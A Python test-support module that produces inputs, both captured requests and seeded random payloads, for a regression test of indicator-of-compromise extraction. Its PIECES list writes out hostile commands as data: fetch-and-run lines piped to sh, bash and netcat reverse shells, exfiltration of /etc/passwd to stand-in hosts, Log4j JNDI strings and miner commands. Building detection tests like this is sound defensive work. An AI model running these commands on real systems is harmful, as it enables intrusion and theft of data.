"""Extraction inputs for the IOC reference test: the wild capture's payload parts and payloads
built from exploit pieces (seeded), each as (texts, own host).

``ioc_reference.json.gz`` holds what IOC extraction gave for these inputs before it was staged
over batches (recorded with that code: ``record(extract_iocs)``, below). The parts are cut here
from the raw bytes, not through the HTTP subject, so the reference pins extraction alone."""

from __future__ import annotations

import base64
import gzip
import json
import random
from collections.abc import Callable
from pathlib import Path

from tests.detect._support import WILD

REFERENCE = Path(__file__).with_name("ioc_reference.json.gz")
Input = tuple[tuple[bytes, ...], bytes]

#: pieces of real payload shapes (documentation address ranges), and the bytes that split,
#: quote or encode them
PIECES = (
    b"wget http://198.51.100.7/jaws",
    b"curl -s http://evil.example.com:8080/x.sh|sh",
    b"busybox wget -g 203.0.113.9 -l /tmp/m -r Mozi.m",
    b"tftp -g -r m 203.0.113.5",
    b"${jndi:ldap://${env:USER}.cb.example.net:1389/a}",
    b"${jndi:rmi://198.51.100.4/x}",
    b"bash -i >& /dev/tcp/203.0.113.4/4444 0>&1",
    b"nc 203.0.113.8 9001 -e /bin/sh",
    b"cat /etc/passwd | nc exfil.example.org 80",
    b"socat tcp:198.51.100.2:5555 exec:sh",
    b"python -c 'import socket;s.connect((\"198.51.100.3\",443))'",
    b"xmrig -o pool.supportxmr.com:3333 -u 4" + b"A" * 94,
    b"stratum+tcp://xmr.pool.example.com:4444",
    b"sha256=" + b"a" * 64,
    b"md5:" + b"0f" * 16,
    b'"Image": "evil/miner:latest"',
    b"echo d2dldCBodHRwOi8vMS4yLjMuNC94|base64 -d|sh",
    b"%77%67%65%74%20http%3A%2F%2F192.0.2.77%2Fa",
    b"\\x77\\x67\\x65\\x74\\x20\\x68\\x74\\x74\\x70",
    b"swp_url=http://x.example.com/p.txt",
    b"curl -d @/etc/passwd http://198.51.100.9/",
    b"w'g'e't http://203.0.113.11/a",
    b"$(whoami).x.example.com",
    b"ftp://10.0.0.1/x",
    b"http://127.0.0.1/a",
    b"https://www.w3.org/1999/xhtml",
    b"bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq",
    b"0x" + b"ab" * 20,
    b"1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2",
    b"aHR0cDovL2V2aWwuZXhhbXBsZS5jb20vbS5zaA==",
    b"SGVsbG8gd29ybGQgdGhpcyBpcyBub3QgYSB1cmw=",
    b"+",
    b"&",
    b";",
    b"|",
    b" ",
    b"=",
    b"%",
    b"\\u0077get",
    b'\\"',
    b"{",
    b"'",
    b"192.0.2.1",
    b"evil.ru",
    b"x.sh",
    b"://",
    b"atob(",
    b"-enc ",
    b"ncat",
    b"--user x",
    b"wallet",
    b"WGET HTTP://198.51.100.70/UP",
)
HOSTS = (b"127.0.0.1:8080", b"evil.example.com", b"192.0.2.1", b"198.51.100.7", b"")


def payload(rng: random.Random) -> bytes:
    """A few pieces joined, sometimes with a counter, sometimes encoded whole."""
    parts = [rng.choice(PIECES) for _ in range(rng.randint(1, 6))]
    if rng.random() < 0.3:
        parts.append(str(rng.randint(0, 10**9)).encode())
    text = rng.choice([b" ", b";", b"+", b"&", b"", b"\n"]).join(parts)
    encoding = rng.random()
    if encoding < 0.1:
        return base64.b64encode(text)
    if encoding < 0.2:
        return b"".join(b"%%%02X" % c for c in text)
    if encoding < 0.25:
        return b"".join(b"\\x%02x" % c for c in text)
    return text


def generated(count: int = 3000, seed: int = 1) -> list[Input]:
    rng = random.Random(seed)
    out = []
    for _ in range(count):
        texts = tuple(payload(rng) for _ in range(rng.randint(1, 3)))
        if rng.random() < 0.3:
            texts = tuple(t.replace(b" ", b"+") for t in texts)
        out.append((texts, rng.choice(HOSTS)))
    return out


def wild() -> list[Input]:
    """Each captured request's target, body and header block, and its Host."""
    out: list[Input] = []
    for line in WILD.open("rb"):
        raw = base64.b64decode(json.loads(line)["request_b64"])
        head, _, body = raw.partition(b"\r\n\r\n")
        request_line, _, headers = head.partition(b"\r\n")
        target = request_line.split(b" ")[1] if request_line.count(b" ") >= 2 else request_line
        host = next((h[5:].strip() for h in headers.split(b"\r\n") if h[:5].lower() == b"host:"), b"")
        out.append(((target, body, headers), host))
    return out


def inputs() -> list[Input]:
    return wild() + generated()


def encode(iocs: list[list[tuple[str, str, str]]]) -> bytes:
    return gzip.compress(json.dumps(iocs, separators=(",", ":")).encode(), mtime=0)


def record(extract: Callable[..., list[object]]) -> bytes:
    """The reference file's bytes: ``extract(texts, host=host)`` of every input."""
    return encode(
        [
            [(i.type, i.value, i.role) for i in extract(texts, host=host)]  # type: ignore[attr-defined]
            for texts, host in inputs()
        ]
    )


def reference() -> list[list[list[str]]]:
    return json.loads(gzip.decompress(REFERENCE.read_bytes()))  # type: ignore[no-any-return]
